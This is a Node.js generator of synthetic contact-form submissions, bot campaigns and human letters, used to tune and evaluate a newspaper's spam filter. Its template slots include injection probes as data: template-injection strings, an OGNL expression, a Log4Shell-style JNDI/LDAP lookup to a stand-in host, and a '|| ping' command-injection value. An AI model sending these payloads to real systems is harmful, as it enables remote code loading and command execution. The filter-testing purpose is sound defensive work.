// Makes tests/data/contact/{bots,people,fresh}.jsonl and headers.json: what a newspaper's contact form receives, as behaviours. One submission a
// line, always the same for the same sources (`node tests/contact/generate.mjs`):
//   id      class-group.number; a group is one text or one campaign, and lies in one half as a whole
//   class   what it is a case of
//   half    in fresh.jsonl "fresh" and "later", texts that were written when the filter was finished for the first and for the
//           last time; otherwise "tune" (the filter was made with these) or "held" (it never saw them: the figures are theirs). Within a class
//           the groups are put in the order of the SHA-256 of their ids, and every second one is held
//   at      seconds from the beginning of two weeks
//   form    which form (token) it came with; absent: none. Two lines with one form sent one token twice
//   forged  the token is not ours
//   made    seconds before `at` when that form was made
//   shown   seconds before `at` when the sender first saw the form; absent: when it was made
//   address, headers, fields: what the server is told; `headers` is a name in headers.json
import { createHash } from 'node:crypto'
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'

const here = new URL('.', import.meta.url)
const site = 'https://news.example.org'

// --- chance -------------------------------------------------------------------------------------
let state = 20260417
const chance = () => {
  state = (state + 0x6d2b79f5) | 0
  let t = Math.imul(state ^ (state >>> 15), 1 | state)
  t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
  return ((t ^ (t >>> 14)) >>> 0) / 4294967296
}
const between = (low, high) => low + Math.floor(chance() * (high - low + 1))
const one = list => list[between(0, list.length - 1)]
const odds = share => chance() < share
const hash = text => createHash('sha256').update(text).digest('hex')
// Halves of a list of groups, by hash.
const halves = ids => {
  const order = [...ids].sort((a, b) => (hash(a) < hash(b) ? -1 : 1))
  return Object.fromEntries(order.map((id, i) => [id, i % 2 ? 'held' : 'tune']))
}

// --- texts --------------------------------------------------------------------------------------
const read = name => {
  const counted = {}
  return readFileSync(new URL(name, here), 'utf8').split(/^== /m).slice(1).map(block => {
    const [head, subject, ...body] = block.trimEnd().split('\n')
    const [kind, language] = head.split(' ')
    counted[kind] = (counted[kind] ?? 0) + 1
    return { kind, language, group: `${kind}-${counted[kind]}`, subject, body: body.join('\n') }
  })
}
const split = texts => {
  for (const kind of new Set(texts.map(t => t.kind))) {
    const own = texts.filter(t => t.kind === kind)
    const half = halves(own.map(t => t.group))
    for (const text of own) text.half = half[text.group]
  }
  return texts
}
const human = split(read('humans.txt')), spam = split(read('bots.txt'))

const people = {
  en: ['Anna Whitfield', 'Tom Okafor', 'Grace Lindqvist', 'P. J. Marlowe', 'Sean Doherty', 'Miriam Katz', 'Ruth Adeyemi', 'Luis Ferreira', 'Hanna Novak', 'Bob'],
  tr: ['Ayşe Yıldırım', 'Mehmet Çelik', 'Elif Karaca', 'Hüseyin Aydoğdu', 'Zeynep Şen', 'İlknur Güneş', 'Murat T.', 'Fatma Özkan', 'Deniz', 'Kemal Uğurlu'],
  az: ['Leyla Məmmədova', 'Rəşad Quliyev', 'Günay Əliyeva', 'Elçin Hüseynov', 'Şəbnəm', 'Tofiq Rzayev', 'Nərmin İsmayılova', 'Vüqar Qasımov', 'Aytən', 'Kamran Babayev'],
}
const places = ['Larkmoor', 'Stonebridge', 'Selvihan', 'Gülpınar', 'Narlıdere', 'Çinarlı', 'Qızılağac', 'Sarıtəpə', 'Westhaven', 'Aşağıköy']
const letters = (length, from = 'bcdfghjklmnpqrstvwxzaeiou') => Array.from({ length }, () => one([...from])).join('')
const mixed = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ'
const spam_address = () => `https://${letters(between(5, 9))}-${one(['deal', 'win', 'top', 'best', 'pro', 'fast'])}.example/${letters(between(2, 7))}`
const fair_address = () => `https://${one(['www.', 'docs.', 'archive.', ''])}${one(['stonebridge', 'registry', 'council', 'union', 'fairbuild', 'library'])}.example/${one(['minutes', 'statement', 'press', 'decisions', 'plan'])}/${between(2, 400)}`
const slots = {
  name: language => one(people[language]), person: language => one(people[language]), place: () => one(places),
  article: language => `${site}${language === 'en' ? '' : '/' + language}/article/${between(10, 4000)}/${one(['bridge-opens', 'late-harvest', 'night-buses', 'new-school'])}`,
  company: () => one(['Fairbuild', 'Lark & Sons', 'Yeni Liman A.Ş.', 'Xəzər Tikinti']), link: fair_address, link2: fair_address,
  spam: spam_address, spam2: spam_address, spam3: spam_address, host2: () => letters(6) + '.example', host: () => 'news.example.org',
  year2: () => String(between(1951, 1999)), year: () => String(between(1951, 1999)), n2: () => String(between(71, 94)), n: () => String(between(3, 60)),
  junk: () => (odds(0.5) ? letters(between(7, 18), mixed) : letters(between(7, 16), 'bcdfghjklmnpqrstvwxz' + 'aei')), word: () => letters(between(4, 8)),
  curly: () => '{{7*7}}', jndi: () => '${jndi:ldap://' + letters(6) + '.example/a}', config: () => '{{config.items()}}', ognl: () => "%{(#a='x')}", pipe: () => '|| ping -c 4 127.0.0.1',
}
const names = Object.keys(slots).sort((a, b) => b.length - a.length)
const expand = (text, language) => {
  text = text.replaceAll('${n}', '$' + between(3, 60)).replaceAll('\\r', '\r').replaceAll('\\n', '\n')
  while (/\{[^{}]*\}/.test(text)) text = text.replace(/\{([^{}]*)\}/, (_, inside) => one(inside.split('|')))
  return text.replace(new RegExp('\\$(' + names.join('|') + ')', 'g'), (_, name) => slots[name](language))
}
const ascii = text => text.normalize('NFD').replace(/\p{M}/gu, '').replace(/ı/g, 'i').replace(/ə/g, 'e').replace(/[^\w]+/g, '.').toLowerCase()
const mail_of = name => `${ascii(name).replace(/^\.|\.$/g, '')}${odds(0.5) ? between(1, 99) : ''}@${one(['mail.example', 'post.example', 'example.com', 'example.net', 'uni.example'])}`
const bare = text => text.replace(/https?:\S+/g, '').toLowerCase().replace(/[^\p{L}]+/gu, '')
const written_before = new Set()
const fields = (text, more = {}) => {
  const name = more.name ?? one(people[text.language])
  const email = mail_of(name), subject = expand(text.subject, text.language), body = expand(text.body, text.language)
  written_before.add(bare(body))
  return { kind: 'general', name, email, subject, body, website: '', ...more }
}

// Two people do not write one letter, and no machine knows theirs: a further one from the same text gets a sentence of its own.
const own_words = {
  en: ['I write this from $place.', 'My name is $name, by the way.', 'My $n pupils would like to know, too.', 'I saw it on the $n bus.', 'Greetings from $person and me.', 'I turned $n2 last week.', 'We moved here in $year.'],
  tr: ['Bunu $place köyünden yazıyorum.', 'Adım $name.', 'Komşum $person da aynı fikirde.', 'Ben $year doğumluyum.', '$n yıldır okurunuzum.', 'Selamlar, $place.'],
  az: ['Bunu $place kəndindən yazıram.', 'Adım $name.', 'Qonşum $person da belə deyir.', 'Mən $year-ci ildə doğulmuşam.', '$n ildir oxucunuzam.', 'Salamlar, $place.'],
}
const letter = (text, more) => {
  const before = new Set(written_before), made = fields(text, more)
  while (bare(made.body).length > 30 && before.has(bare(made.body))) made.body += ' ' + expand(one(own_words[text.language]), text.language)
  written_before.add(bare(made.body))
  return made
}

// --- browsers and programs ----------------------------------------------------------------------
const page = { accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8' }
const fetched = { sec_fetch_site: 'same-origin', sec_fetch_mode: 'navigate', sec_fetch_dest: 'document' }
const spoken = { en: 'en-GB,en;q=0.9', tr: 'tr-TR,tr;q=0.9,en;q=0.6', az: 'az-Latn-AZ,az;q=0.9,ru;q=0.6,tr;q=0.5' }
const own = language => ({ origin: site, referer: `${site}${language === 'en' ? '' : '/' + language}/contact` })
const modern = user_agent => language => ({ user_agent, ...page, accept_language: spoken[language], ...fetched, ...own(language) })
const browsers = [
  modern('Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36'),
  modern('Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Mobile Safari/537.36'),
  modern('Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0'),
  modern('Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1'),
  modern('Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.4 Safari/605.1.15'),
  modern('Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/139.0.0.0 Safari/537.36 Edg/139.0.0.0'),
  modern('Mozilla/5.0 (Linux; Android 14; SM-A546E) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36'),
  // An old telephone, from before Sec-Fetch-*.
  language => ({ user_agent: 'Mozilla/5.0 (iPhone; CPU iPhone OS 15_8 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/15.6 Mobile/15E148 Safari/604.1', ...page, accept_language: spoken[language], ...own(language) }),
]
const browser = language => one(browsers)(language)
const odd_people = [
  // Tells no referrer.
  language => ({ ...browsers[2](language), referer: '' }),
  // Behind an office's proxy that drops what it does not know.
  language => ({ user_agent: browsers[0](language).user_agent, accept: page.accept, accept_language: spoken[language], ...own(language) }),
  // Hides what browser it is.
  language => ({ ...browsers[2](language), user_agent: '' }),
  language => ({ ...browsers[2]('en'), user_agent: 'Mozilla/5.0 (Windows NT 10.0; rv:128.0) Gecko/20100101 Firefox/128.0', accept_language: 'en-US,en;q=0.5' }),
]
const text_browsers = [
  language => ({ user_agent: 'Lynx/2.9.0dev.12 libwww-FM/2.14 SSL-MM/1.4.1', accept: 'text/html, text/plain, */*;q=0.01', accept_language: language, referer: own(language).referer }),
  language => ({ user_agent: 'w3m/0.5.3+git20230121', accept: 'text/html, text/*;q=0.5, image/*', accept_language: language + ';q=1.0, en;q=0.5', referer: own(language).referer }),
  language => ({ user_agent: 'Links (2.29; Linux 6.1 x86_64; GNU C 12; text)', accept: '*/*', accept_language: language + ';q=0.2,*;q=0.1', referer: own(language).referer }),
  language => ({ user_agent: 'NetSurf/3.10 (Linux)', accept: 'text/html,*/*;q=0.1', accept_language: language + ', *;q=0.1', referer: own(language).referer }),
  odd_people[3], browsers[2],
]
const tools = [
  () => ({ user_agent: 'python-requests/2.32.3', accept: '*/*' }),
  () => ({ user_agent: 'curl/8.5.0', accept: '*/*' }),
  () => ({ user_agent: 'Go-http-client/2.0' }),
  () => ({}),
  () => ({ user_agent: 'Mozilla/5.0', accept: '*/*' }),
  () => ({ user_agent: 'Java/17.0.9', accept: 'text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2' }),
  // Says that it is a browser, and says too little else.
  () => ({ user_agent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.110 Safari/537.36', accept: '*/*', referer: site + '/' }),
  () => ({ user_agent: 'Mozilla/5.0 (Windows NT 6.1; WOW64; rv:40.0) Gecko/20100101 Firefox/40.1', ...page, referer: site + '/contact' }),
  () => ({ user_agent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.0.0 Safari/537.36', ...page, accept_language: 'en-US', referer: 'https://search.example/' }),
  () => ({ user_agent: 'Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1)', accept: '*/*', accept_language: 'ru' }),
  () => ({ user_agent: 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 Safari/537.36', accept: '*/*', ...fetched, sec_fetch_mode: 'cors', sec_fetch_dest: 'empty', origin: site }),
]
const driven = [
  ...browsers.slice(0, 6),
  () => ({ ...browsers[0]('en'), accept_language: 'en-US' }),
  () => ({ ...browsers[0]('en'), user_agent: 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 Safari/537.36' }),
]
const ipv4 = () => `${one([23, 45, 78, 85, 94, 109, 151, 176, 188, 212])}.${between(1, 254)}.${between(0, 255)}.${between(1, 254)}`
const group16 = () => between(1, 65535).toString(16)
const ipv6 = () => `2001:db8:${group16()}:${group16()}::${group16()}`
const address = () => (odds(0.7) ? ipv4() : ipv6())

// --- lines --------------------------------------------------------------------------------------
const two_weeks = 14 * 24 * 3600
const moment = () => between(3600, two_weeks)
const lines = []
const numbers = {}
let forms = 0, numbers_of_fresh = 0
const form = () => `f${++forms}`
// `group` is "class-n"; `line` may lack what is the same for most.
const add = (kind, group, half, line) => {
  numbers[group] = (numbers[group] ?? 0) + 1
  lines.push({ id: `${group}.${numbers[group]}`, class: kind, half, at: moment(), address: address(), ...line })
}
// Groups that are campaigns, not texts.
const campaigns = (kind, count, make) => {
  const ids = Array.from({ length: count }, (_, i) => `${kind}-${i + 1}`)
  const half = halves(ids)
  for (const id of ids) make(line => add(kind, id, half[id], line), half[id])
}
const any = (texts, half) => one(texts.filter(t => t.half === half))
const sells = spam.filter(t => !['neutral', 'test'].includes(t.kind) && !t.kind.startsWith('probe'))
const neutral = spam.filter(t => t.kind === 'neutral')
const plausible = human.filter(t => !['office', 'crowd', 'twice', 'aftererror', 'noscript', 'screenreader'].includes(t.kind))

// How somebody who writes `text` takes part of the time: reading, typing or pasting.
const human_time = text => Math.round(8 + text.length / (1.5 + chance() * 4) + chance() * 60)

function bots() {
  const bad_time = () => between(3, 12)
  for (const text of spam.filter(t => t.kind !== 'neutral')) {
    const count = text.kind.startsWith('probe') ? 10 : text.kind === 'test' ? 12 : 11
    for (let i = 0; i < count; ++i) {
      const machine = text.kind === 'test' || odds(0.5)
      const more = text.kind === 'gibberish' ? { name: letters(between(6, 14), mixed) } : {}
      add(text.kind, text.group, text.half, {
        form: form(), made: machine ? bad_time() : between(15, 90), headers: machine ? one(tools)() : one(driven)(text.language), fields: fields(text, more),
      })
    }
  }
  // A plain POST by who never asked for the form.
  campaigns('no-form', 12, (put, half) => { for (let i = 0; i < 5; ++i) put({ headers: odds(0.5) ? one(tools)() : one(driven)('en'), fields: fields(any(odds(0.5) ? sells : plausible, half)) }) })
  campaigns('forged-token', 4, (put, half) => { for (let i = 0; i < 7; ++i) put({ form: form(), forged: true, made: between(5, 50), headers: one(driven)('en'), fields: fields(any(plausible, half)) }) })
  campaigns('old-token', 8, (put, half) => { const f = form(); for (let i = 0; i < 6; ++i) put({ form: f, made: between(86500, 900000), headers: one(driven)('en'), fields: fields(any(odds(0.5) ? sells : plausible, half)) }) })
  // One form, got once, sent again and again with other texts.
  campaigns('replayed-token', 6, (put, half) => {
    const f = form(), start = moment()
    for (let i = 0; i < 14; ++i) put({ form: f, at: start + 40 + i * 300, made: 40 + i * 300, headers: one(driven)('en'), fields: fields(any(sells, half)) })
  })
  campaigns('instant', 16, (put, half) => { for (let i = 0; i < 6; ++i) put({ form: form(), made: between(0, 1), headers: odds(0.5) ? one(tools)() : one(driven)('en'), fields: fields(any(odds(0.5) ? sells : plausible, half)) }) })
  campaigns('quick', 10, (put, half) => { for (let i = 0; i < 6; ++i) put({ form: form(), made: between(2, 5), headers: one(driven)('en'), fields: fields(any(sells, half)) }) })
  campaigns('honeypot', 14, (put, half) => { for (let i = 0; i < 7; ++i) put({ form: form(), made: between(2, 80), headers: odds(0.5) ? one(tools)() : one(driven)('en'), fields: fields(any(odds(0.5) ? sells : plausible, half), { website: odds(0.7) ? spam_address() : letters(6) }) }) })
  // A text that sells nothing yet, from many addresses: nothing but its repetition tells.
  campaigns('repeated-text', 4, (put, half) => {
    const text = any(neutral, half), same = fields(text), start = moment()
    for (let i = 0; i < 26; ++i) {
      const name = one(people[text.language])
      put({ form: form(), at: start + i * between(60, 1500), made: between(15, 70), headers: one(driven)(text.language), fields: { ...same, name, email: mail_of(name) } })
    }
  })
  campaigns('slow-drip', 6, (put, half) => {
    const from = address(), start = between(0, two_weeks / 2)
    for (let i = 0; i < 12; ++i) put({ form: form(), at: start + i * between(1700, 2600), address: from, made: between(15, 90), headers: one(driven)('en'), fields: fields(any(sells, half)) })
  })
  const burst = (kind, next) => campaigns(kind, 4, (put, half) => {
    const start = moment(), at = next()
    for (let i = 0; i < 30; ++i) put({ form: form(), at: start + i * 12, address: at(i), made: between(12, 40), headers: one(driven)('en'), fields: fields(any(i % 3 ? sells : plausible, half)) })
  })
  const within24 = () => { const net = `${between(11, 220)}.${between(1, 254)}.${between(1, 254)}`; return i => `${net}.${1 + (i * 7) % 250}` }
  const within64 = () => { const net = `2001:db8:${group16()}:${group16()}`; return () => `${net}:${group16()}:${group16()}:${group16()}:${group16()}` }
  const within48 = () => { const net = `2001:db8:${group16()}`; return i => `${net}:${i.toString(16)}::${group16()}` }
  const many = texts => count => campaigns(...count, (put, half) => { const start = moment(); for (let i = 0; i < 20; ++i) put({ form: form(), at: start + i * 20, made: between(12, 60), headers: one(driven)('en'), fields: fields(any(texts, half)) }) })
  burst('rotating-in-24', within24)
  burst('rotating-in-64', within64)
  burst('rotating-in-48', within48)
  many(sells)(['rotating-anywhere', 6])
  campaigns('headless', 20, (put, half) => { for (let i = 0; i < 7; ++i) { const text = any(sells, half); put({ form: form(), made: between(15, 120), headers: one(driven)(text.language), fields: fields(text) }) } })
  // The same, but with nothing to sell and never the same: a person could have written it.
  campaigns('headless-neutral', 6, (put, half) => { const text = any(neutral, half); put({ form: form(), made: between(20, 60), headers: one(driven)(text.language), fields: fields({ ...text, body: text.body + ' {Sincerely|Regards}, $name, $place.' }) }) })
  campaigns('odd-headers', 12, (put, half) => { for (let i = 0; i < 6; ++i) put({ form: form(), made: between(4, 30), headers: one(tools)(), fields: fields(any(neutral, half)) }) })
  // Sent from somebody else's page.
  campaigns('foreign-page', 4, (put, half) => { for (let i = 0; i < 5; ++i) put({ form: form(), made: between(4, 30), headers: { ...browsers[0]('en'), sec_fetch_site: 'cross-site', origin: 'https://other.example', referer: 'https://other.example/' }, fields: fields(any(sells, half)) }) })
}

function letters_of_people() {
  const single = { thanks: 8, long: 8, correction: 7, reply: 6, quote: 6, phone: 7, autofill: 6, slow: 8, screenreader: 6, noscript: 8, tip: 6, angry: 7, domains: 9, aftererror: 9, othertongue: 7, technical: 6, business: 6 }
  for (const text of human.filter(t => single[t.kind])) {
    for (let i = 0; i < single[text.kind]; ++i) {
      const written = letter(text)
      const made = { autofill: between(6, 8), slow: between(6000, 12000), screenreader: between(90, 1500) }[text.kind] ?? human_time(written.body)
      const line = { form: form(), made, headers: odds(0.08) ? one(odd_people)(text.language) : browser(text.language), fields: written }
      if (text.kind === 'noscript') line.headers = one(text_browsers)(text.language)
      if (text.kind === 'correction') written.kind = 'correction'
      if (text.kind === 'reply') written.kind = 'reply'
      if (text.kind === 'tip') written.kind = 'tip'
      if (text.kind === 'long' && odds(0.3)) line.made = between(9, 25)  // written elsewhere, pasted
      if (text.kind === 'domains') written.email = one(['ayşe@kütüphane.example', 'k@xn--ktphane-n2ab.example', 'post+haber@a.b.c.museum.example', '19841203@qq.example', 'o\'neil@clann.example', 'x@y.example', 'leyla@məktəb.example', 'reader_77@mail.gov.example'])
      if (text.kind === 'aftererror') Object.assign(line, odds(0.5) ? { made: between(1, 4), shown: between(30, 400) } : { made: between(1, 5), shown: between(86500, 200000) })
      if (text.kind === 'phone') line.headers = one([browsers[1], browsers[3], browsers[6], browsers[7]])(text.language)
      add(text.kind, text.group, text.half, line)
    }
  }
  const texts = kind => human.filter(t => t.kind === kind)
  // Several people of one office: over a day, with a talk at lunch that makes five of them write.
  campaigns('office', 6, (put, half) => {
    const from = odds(0.5) ? () => fixed : () => `2001:db8:77:${net}::${group16()}`, fixed = ipv4(), net = group16(), day = moment(), proxy = odds(0.4)
    const times = [0, 70, 180, 330, 540, 7200, 9000, 15000, 20000]
    for (const time of times) { const text = any(texts('office'), half); put({ form: form(), at: day + time, address: from(), made: between(20, 200), headers: (proxy ? odd_people[1] : browser)(text.language), fields: letter(text) }) }
  })
  // A class of a school: nine within ten minutes. From the sixth on they are asked to wait.
  campaigns('crowd', 2, (put, half) => {
    const from = ipv4(), start = moment()
    for (let i = 0; i < 9; ++i) { const text = any(texts('crowd'), half); put({ form: form(), at: start + i * 60, address: from, made: between(40, 300), headers: browser(text.language), fields: fields(text) }) }
  })
  // Who sends twice: a double click, the way back and once more with an afterthought, the same letter in a new form.
  campaigns('twice', 20, (put, half) => {
    const text = any(texts('twice'), half), from = address(), headers = browser(text.language), written = letter(text), at = moment(), f = form(), made = human_time(written.body)
    put({ form: f, at, address: from, made, headers, fields: written })
    const how = between(0, 2), later = how === 0 ? 1 : between(30, 4000)
    put({
      form: how === 2 ? form() : f, at: at + later, address: how === 2 && odds(0.5) ? address() : from, made: how === 2 ? between(15, 60) : made + later, headers,
      fields: how === 1 ? { ...written, body: written.body + ' PS. ' + one(people[text.language]) } : written,
    })
  })
}

const known = new Map()
const name_of = headers => {
  const text = JSON.stringify(headers)
  if (!known.has(text)) known.set(text, `h${known.size + 1}`)
  return known.get(text)
}
const out = new URL('../data/contact/', here)
mkdirSync(out, { recursive: true })
const write = (name, make) => {
  lines.length = 0
  make()
  lines.sort((a, b) => a.at - b.at || (a.id < b.id ? -1 : 1))
  writeFileSync(new URL(name, out), lines.map(line => JSON.stringify({ ...line, headers: name_of(line.headers) })).join('\n') + '\n')
  const count = {}
  for (const line of lines) (count[line.class] ??= { tune: 0, held: 0 })[line.half]++
  console.log(name, lines.length, lines.filter(l => l.half === 'held').length)
  console.table(count)
}
write('bots.jsonl', bots)
write('people.jsonl', letters_of_people)
// Texts that were written when the filter was finished.
write('fresh.jsonl', () => {
  for (const text of ['fresh-bots', 'fresh-humans', 'later-bots', 'later-humans'].flatMap(name => read(`${name}.txt`))) {
    const line = { form: form(), made: human_time(text.body), headers: browsers[numbers_of_fresh++ % 6](text.language), fields: fields(text) }
    add(text.kind, text.group, text.kind.split('-')[0], line)
  }
})
writeFileSync(new URL('headers.json', out), '{\n' + [...known].map(([text, name]) => `"${name}": ${text}`).join(',\n') + '\n}\n')
